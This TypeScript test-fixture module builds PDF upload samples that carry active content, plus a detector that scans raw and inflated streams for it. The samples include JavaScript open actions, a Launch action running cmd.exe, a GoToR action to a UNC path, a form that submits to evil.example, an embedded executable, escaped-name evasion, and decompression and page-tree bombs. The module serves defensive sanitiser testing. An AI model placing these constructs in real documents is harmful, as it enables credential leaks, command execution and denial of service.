import { deflateSync, inflateSync } from 'node:zlib';

// PDFs for upload tests, written byte by byte here: no binary fixtures in the repository. Each is a
// well-formed file (offsets in a cross-reference table, or a cross-reference stream when objects
// are packed into a compressed object stream) with pages that show a line of text, and each hides
// active content where a reader would act on it.

/** An object's body, between `N 0 obj` and `endobj`. */
type Body = string | Buffer;

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A stream object's body: its dictionary (without /Length) and data, deflated unless `raw`. */
export function stream(dict: string, data: Body, { raw = false } = {}): Buffer {
  const bytes = raw ? Buffer.from(data) : deflateSync(Buffer.from(data));
  const filter = raw ? '' : ' /Filter /FlateDecode';
  return Buffer.concat([
    latin1(`<< ${dict} /Length ${bytes.length}${filter} >>\nstream\n`),
    bytes,
    latin1('\nendstream'),
  ]);
}

export interface PdfParts {
  /** Objects written as they are, by number. */
  objects: Record<number, Body>;
  /** Objects packed into one deflated object stream, listed by a cross-reference stream (PDF 1.5). */
  packed?: Record<number, string>;
  /** The trailer's entries, e.g. `/Root 1 0 R`. */
  trailer: string;
}

/** The file: header, objects, cross-reference table or stream, trailer and %%EOF. */
export function pdfFile({ objects, packed = {}, trailer }: PdfParts): Buffer {
  const chunks: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = chunks[0]?.length ?? 0;
  const offsets = new Map<number, number>();
  const write = (num: number, body: Body) => {
    offsets.set(num, length);
    const chunk = Buffer.concat([latin1(`${num} 0 obj\n`), Buffer.from(body), latin1('\nendobj\n')]);
    chunks.push(chunk);
    length += chunk.length;
  };
  for (const [num, body] of Object.entries(objects)) write(Number(num), body);

  const numbers = [...Object.keys(objects), ...Object.keys(packed)].map(Number);
  const packedNumbers = Object.keys(packed).map(Number);
  if (packedNumbers.length === 0) {
    const size = Math.max(...numbers) + 1;
    const rows = ['0000000000 65535 f\r\n'];
    for (let num = 1; num < size; num++) {
      const at = offsets.get(num);
      rows.push(at === undefined ? '0000000000 65535 f\r\n' : `${String(at).padStart(10, '0')} 00000 n\r\n`);
    }
    const xref = `xref\n0 ${size}\n${rows.join('')}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${length}\n%%EOF\n`;
    return Buffer.concat([...chunks, latin1(xref)]);
  }

  // The object stream: "num offset" pairs, then the objects one after another.
  const objStm = Math.max(...numbers) + 1;
  const xrefStm = objStm + 1;
  let header = '';
  let content = '';
  for (const num of packedNumbers) {
    header += `${num} ${content.length} `;
    content += `${packed[num]}\n`;
  }
  write(objStm, stream(`/Type /ObjStm /N ${packedNumbers.length} /First ${header.length}`, header + content));

  const size = xrefStm + 1;
  const rows = Buffer.alloc(size * 7); // /W [1 4 2]
  for (let num = 0; num < size; num++) {
    const row = num * 7;
    const packedAt = packedNumbers.indexOf(num);
    const at = num === xrefStm ? length : offsets.get(num);
    if (packedAt !== -1) {
      rows.writeUInt8(2, row);
      rows.writeUInt32BE(objStm, row + 1);
      rows.writeUInt16BE(packedAt, row + 5);
    } else if (at !== undefined) {
      rows.writeUInt8(1, row);
      rows.writeUInt32BE(at, row + 1);
    }
  }
  write(xrefStm, stream(`/Type /XRef /Size ${size} /W [1 4 2] ${trailer}`, rows));
  const xrefAt = offsets.get(xrefStm);
  return Buffer.concat([...chunks, latin1(`startxref\n${xrefAt}\n%%EOF\n`)]);
}

/** What a page of a sample shows: a line of text naming the sample and the page. */
export const pageText = (name: string, page: number) => `${name}: page ${page}`;

export interface SampleOptions {
  pages?: number;
  /** More entries for the catalogue (object 1). */
  catalog?: string;
  /** More entries for each page. */
  page?: (index: number) => string;
  /** More entries for the font resource every page uses (object 3). */
  font?: string;
  /** More objects, numbered from 100. */
  extra?: Record<number, Body>;
  /** Numbers of objects (catalogue, page tree, extra) to pack into a compressed object stream. */
  pack?: number[];
  /** More trailer entries. */
  trailer?: string;
}

/**
 * A document of `pages` pages, each with a deflated content stream showing `pageText(name, n)`:
 * 1 catalogue, 2 page tree, 3 font, 10 + 2i page i, 11 + 2i its content.
 */
export function samplePdf(name: string, options: SampleOptions = {}): Buffer {
  const { pages = 1, catalog = '', page = () => '', font = '', extra = {}, pack = [], trailer = '' } = options;
  const objects: Record<number, Body> = {
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, i) => `${10 + 2 * i} 0 R`).join(' ')}] >>`,
    3: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >>`,
  };
  for (let i = 0; i < pages; i++) {
    objects[10 + 2 * i] =
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> ` +
      `/Contents ${11 + 2 * i} 0 R ${page(i)} >>`;
    objects[11 + 2 * i] = stream('', `BT /F1 18 Tf 72 760 Td (${pageText(name, i + 1)}) Tj ET`);
  }
  Object.assign(objects, extra);
  const packed: Record<number, string> = {};
  for (const num of pack) {
    packed[num] = String(objects[num]);
    delete objects[num];
  }
  return pdfFile({ objects, packed, trailer: `/Root 1 0 R ${trailer}` });
}

const JS = '<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.exportDataObject\\({cName: "x", nLaunch: 2}\\)) >>';

export interface ActiveSample {
  name: string;
  bytes: Buffer;
  pages: number;
}

/** Uploads that carry active content a rebuilt file must not keep; each still has readable pages. */
export function activeSamples(): ActiveSample[] {
  const sample = (name: string, pages: number, options: Omit<SampleOptions, 'pages'>) => ({
    name,
    pages,
    bytes: samplePdf(name, { pages, ...options }),
  });
  return [
    // The catalogue and its JavaScript open action live only inside a compressed object stream.
    sample('object-stream JavaScript', 2, {
      catalog: '/OpenAction 100 0 R /Names << /JavaScript << /Names [(boot) 100 0 R] >> >>',
      extra: { 100: JS },
      pack: [1, 2, 100],
    }),
    sample('open-action JavaScript', 1, { catalog: `/OpenAction ${JS}` }),
    sample('GoToR to a UNC path', 1, {
      catalog:
        '/OpenAction << /S /GoToR /F << /Type /Filespec /F (\\\\\\\\evil\\\\share\\\\x.pdf) ' +
        '/UF (\\\\\\\\evil\\\\share\\\\x.pdf) >> /D [0 /Fit] /NewWindow true >>',
    }),
    sample('URI open action', 1, { catalog: '/OpenAction << /S /URI /URI (https://evil.example/track?id=1) >>' }),
    sample('Launch link annotation', 2, {
      page: (i) =>
        `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] ` +
        `/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>] ` +
        `/AA << /O << /S /JavaScript /JS (app.alert\\(${i}\\)) >> >>`,
    }),
    sample('embedded files', 1, {
      catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 100 0 R] >> >> /PageMode /UseAttachments',
      page: () => '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 100 0 R >>]',
      extra: {
        100: '<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 101 0 R >> >>',
        101: stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', 'MZ evil payload'),
      },
    }),
    sample('AcroForm with XFA and submit', 1, {
      catalog: '/AcroForm << /Fields [100 0 R] /XFA 101 0 R /NeedAppearances true >>',
      page: () => '/Annots [100 0 R]',
      extra: {
        100:
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /P 10 0 R ' +
          '/AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> ' +
          '/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>',
        101: stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'),
      },
    }),
    // Names as a reader decodes them: #61 is "a", #41#41 is "AA", and #4a#53 (lower-case hex too) is "JS".
    sample('#-escaped names', 1, {
      catalog:
        '/Open#41ction << /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >> ' +
        '/#41#41 << /WC << /S /#4a#61v#61Script /JS (app.alert\\(2\\)) >> >>',
    }),
  ];
}

/** The standard security handler's dictionary: the file's strings and streams are encrypted. */
export function encryptedPdf(): Buffer {
  return samplePdf('encrypted', {
    extra: {
      100:
        '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1028 ' +
        '/O <0000000000000000000000000000000000000000000000000000000000000000> ' +
        '/U <0000000000000000000000000000000000000000000000000000000000000000> >>',
    },
    trailer: '/Encrypt 100 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
  });
}

/** `streams` object streams that inflate to `megabytes` of spaces in all: kilobytes on the wire. */
export function inflationBomb(megabytes: number, streams = 1): Buffer {
  const header = '100 0 ';
  const spaces = Buffer.alloc((megabytes * 1024 * 1024) / streams, 0x20);
  const bomb = deflateSync(Buffer.concat([latin1(`${header}<< /Bomb true >>`), spaces]), { level: 9 });
  const extra: Record<number, Body> = {};
  for (let i = 0; i < streams; i++) {
    extra[200 + i] = stream(`/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`, bomb, { raw: true });
  }
  return samplePdf('bomb', { extra });
}

/** A page tree whose nodes each list the next one twice: 2^levels pages by pdf-lib's count. */
export function pageTreeBomb(levels: number): Buffer {
  const extra: Record<number, Body> = {};
  for (let level = 0; level < levels; level++) {
    extra[100 + level] = `<< /Type /Pages /Kids [${101 + level} 0 R ${101 + level} 0 R] >>`;
  }
  extra[100 + levels] = '<< /Type /Pages /Kids [10 0 R] >>';
  return samplePdf('page tree', {
    extra: { ...extra, 2: '<< /Type /Pages /Count 1 /Kids [100 0 R] >>' },
  });
}

// What a reader of a stored file could act on, looked for in the raw bytes and in every stream
// inflated: the names of actions, scripts, forms and attached files, and the sample's payloads.
const ACTIVE_NAMES = [
  'JS',
  'JavaScript',
  'AA',
  'OpenAction',
  'Launch',
  'GoToR',
  'GoToE',
  'URI',
  'SubmitForm',
  'ImportData',
  'EmbeddedFile',
  'EmbeddedFiles',
  'AcroForm',
  'XFA',
  'RichMedia',
  'Annots',
  'Filespec',
  'ObjStm',
];
const PAYLOADS = ['app.alert', 'evil', 'cmd.exe', 'invoice.exe', 'MZ evil'];

/** The file's text, with every stream that inflates appended inflated. */
export function pdfTextWithStreamsInflated(bytes: Uint8Array): string {
  const buffer = Buffer.from(bytes);
  const text = buffer.toString('latin1');
  const parts = [text];
  for (const match of text.matchAll(/stream\r?\n/g)) {
    const start = (match.index ?? 0) + match[0].length;
    const end = text.indexOf('endstream', start);
    if (end === -1) continue;
    try {
      parts.push(inflateSync(buffer.subarray(start, end)).toString('latin1'));
    } catch {
      // not deflated (or not a stream at all): its raw bytes are in the text already
    }
  }
  return parts.join('\n');
}

/** Names and payloads of active content found in the file or any of its streams. */
export function activeContentIn(bytes: Uint8Array): string[] {
  const text = pdfTextWithStreamsInflated(bytes);
  const names = new Set(
    [...text.matchAll(/\/([^\s/[\]()<>{}%]+)/g)].map((m) =>
      (m[1] ?? '').replace(/#([0-9A-Fa-f]{2})/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
    ),
  );
  return [
    ...ACTIVE_NAMES.filter((name) => names.has(name)).map((name) => `/${name}`),
    ...PAYLOADS.filter((payload) => text.includes(payload)),
  ];
}
